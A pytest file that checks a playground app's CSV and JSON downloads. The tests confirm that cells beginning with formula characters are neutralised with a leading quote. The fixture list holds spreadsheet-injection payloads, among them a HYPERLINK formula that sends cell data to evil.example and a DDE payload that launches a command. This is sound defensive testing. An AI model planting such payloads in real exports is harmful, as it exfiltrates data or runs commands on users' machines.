"""Item 12 of issue 10: the playground's CSV export never hands a spreadsheet a formula to run."""

from __future__ import annotations

import csv
import io
import json

import pandas as pd
import pytest
from test_app_helpers import app_session, capture_downloads, paste

from playground.downloads import results_csv

app = pytest.fixture(app_session)
downloads = pytest.fixture(capture_downloads)

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
            "\t=1+1", "\r=1+1"]


def test_text_cells_that_start_a_formula_get_a_quote_and_everything_else_is_untouched():
    frame = pd.DataFrame({"user": [*FORMULAS, "alice", "a=b", ""], "requests": [-5, 1, 2, 3, 4, 5, 6, 7, 8]})
    rows = list(csv.reader(io.StringIO(results_csv(frame).decode("utf-8"), newline="")))
    assert rows[0] == ["user", "requests"]
    users = [row[0] for row in rows[1:]]
    assert users == ["'" + f for f in FORMULAS] + ["alice", "a=b", ""]
    assert rows[1][1] == "-5"  # a number is a value, not a formula


def test_the_downloaded_results_csv_neutralises_values_from_the_events(app, downloads):
    events = [{"type": "identify", "userId": f"u{i}", "traits": {"email": formula}}
              for i, formula in enumerate(FORMULAS)]
    paste(app, "\n".join(json.dumps(e) for e in events))
    rows = list(csv.DictReader(io.StringIO(downloads.payload("results.csv").decode("utf-8"), newline="")))
    assert [row["user"] for row in rows] == ["'" + f for f in FORMULAS]
    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for value in row.values())
    # The JSON download is data, not a spreadsheet: it keeps the values exactly as given.
    assert [r["user"] for r in downloads.json("results.json")] == FORMULAS
